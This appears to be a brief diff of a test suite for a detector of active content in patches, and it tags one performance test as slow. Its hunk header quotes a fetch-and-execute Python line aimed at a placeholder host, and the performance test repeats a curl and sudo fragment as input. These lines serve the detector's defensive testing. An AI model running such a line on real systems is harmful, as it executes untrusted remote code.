@@ -53,7 +53,7 @@ exec(urllib.request.urlopen("https://x.example/i").read())`)('is told of %s', (l
     expect(activeContentOf(patch('setup.sh', `+${line}`))).toEqual([])
   })
 
-  it('takes no longer than its input is', () => {
+  it('takes no longer than its input is', { tags: 'slow' }, () => {
     const line = `+${'curl -o a && sudo env '.repeat(2000)}`
     expect(activeContentOf(patch('a.sh', ...Array.from({ length: 300 }, () => line)))).toEqual([])
   })
